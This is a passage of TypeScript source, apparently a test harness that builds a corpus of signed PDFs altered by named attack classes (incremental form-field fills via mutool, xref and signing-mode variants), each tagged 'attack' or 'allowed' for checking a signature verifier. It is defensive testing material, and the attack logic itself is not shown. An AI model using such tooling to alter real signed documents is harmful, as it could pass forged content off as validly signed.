  const mutool = toolPath('mutool');
  if (!mutool) throw new Error('mutool not found');
  const script = path.join(ctx.dir, 'fill.js');
  if (!fs.existsSync(script)) fs.writeFileSync(script, MUTOOL_FILL);
  const tag = `${ctx.variant}-${ctx.mode}-${Math.random().toString(36).slice(2)}`;
  const inFile = path.join(ctx.dir, `fill-in-${tag}.pdf`);
  const outFile = path.join(ctx.dir, `fill-out-${tag}.pdf`);
  fs.writeFileSync(inFile, ctx.signed);
  run(mutool, ['run', script, inFile, outFile, 'GhiChu', 'da nhan'], { check: true });
  const out = new Uint8Array(fs.readFileSync(outFile));
  fs.rmSync(inFile);
  fs.rmSync(outFile);
  return out;
}

// ---------------------------------------------------------------------------------------------
// The corpus

export interface CorpusFile {
  /** `${class}/${variant}/${mode}` */
  id: string;
  cls: AttackClass;
  variant: XrefVariant;
  mode: SignMode;
  kind: 'attack' | 'allowed';
  signedFile: string;
  file: string;
}

/**
 * Writes every signed base and every attacked file into `dir`; returns their list. `only`
 * restricts the classes (by id).
 */
export async function generateCorpus(
  dir: string,
  pki: PdfTestPki,
  only?: (c: AttackClass) => boolean,
): Promise<CorpusFile[]> {
  const out: CorpusFile[] = [];
  const signedCache = new Map<string, { bytes: Uint8Array; file: string }>();
  const signedFor = async (flavour: BaseFlavour, variant: XrefVariant, mode: SignMode) => {
    const key = `${flavour}-${variant}-${mode}`;
    let s = signedCache.get(key);
    if (!s) {
      const bytes = await signBase(
        makeBase({
          variant,
          skewContent: flavour === 'skew',
          danglingContents: flavour === 'dangling-contents',
        }),
        mode,
        pki,
      );
      const file = path.join(dir, `signed-${key}.pdf`);
      fs.writeFileSync(file, bytes);
      s = { bytes, file };
      signedCache.set(key, s);
    }
    return s;
  };
  for (const cls of ATTACKS) {
    if (only && !only(cls)) continue;
    for (const variant of VARIANTS) {
      for (const mode of SIGN_MODES) {
        const s = await signedFor(cls.base ?? 'plain', variant, mode);
        const bytes = await cls.make({ signed: s.bytes, variant, mode, pki, dir });
        if (!bytes) continue;
        const file = path.join(dir, `${cls.id}-${variant}-${mode}.pdf`);
        fs.writeFileSync(file, bytes);
        out.push({
          id: `${cls.id}/${variant}/${mode}`,
          cls,
          variant,
          mode,
          kind: cls.kind(mode),
          signedFile: s.file,
          file,
        });
      }
    }
  }
  return out;
}
